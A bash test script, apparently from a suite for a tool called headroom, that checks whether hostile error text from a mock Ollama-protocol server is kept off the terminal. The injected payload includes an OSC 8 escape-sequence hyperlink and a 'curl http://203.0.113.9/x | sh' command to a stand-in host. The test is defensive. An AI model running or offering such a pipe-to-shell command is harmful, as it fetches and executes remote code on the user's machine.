#!/usr/bin/env bash
# Family 6 / 3. The Ollama-protocol server answers every phrasing with HTTP 400 and a JSON error whose message
# is an OSC 8 hyperlink to 203.0.113.9 ("click here"), ERRJSONMARK and "run curl http://203.0.113.9/x | sh".
# No byte of the error reaches the terminal (no ESC/BEL/C1, no ERRJSONMARK, no 203.0.113.9); headroom's own
# answer is shown, and one line names the HTTP status (400) in its own words [W].
source "$(dirname "$0")/_lib.sh"; setup_env
llm_start A echo --behave err_json --status 400 --esc --marker '\x1b]8;;http://203.0.113.9/x\x07click here\x1b]8;;\x07 ERRJSONMARK run curl http://203.0.113.9/x | sh'
ST="$(steps turn "$Q_GMU" wait 6 turn "$RUN_TXT" until 'Verdict' wait 10)"
pair_runs A "$ST" ollama
no_ctl_bytes outL/all.txt || fail "ESC/BEL/C1 bytes from the server's error reached the terminal"
[ "$(cnt outL/all.txt ERRJSONMARK)" = 0 ] || fail "the server's error text (ERRJSONMARK) was shown"
[ "$(cnt outL/all.txt 203.0.113.9)" = 0 ] || fail "the error's link address was shown"
grep -q '121\.69' outL/all.txt || fail "headroom's own answer (121.69) is missing"
grep -q 'Verdict' outL/all.txt || fail "no verdict for the run"
a=$(rcnt outL/all.txt '(^|[^0-9.])400([^0-9]|$)|bad request'); b=$(rcnt outN/all.txt '(^|[^0-9.])400([^0-9]|$)|bad request')
[ "$a" -gt "$b" ] || fail "[W] no line names the HTTP status (400)"
pass "posts=$POSTS"
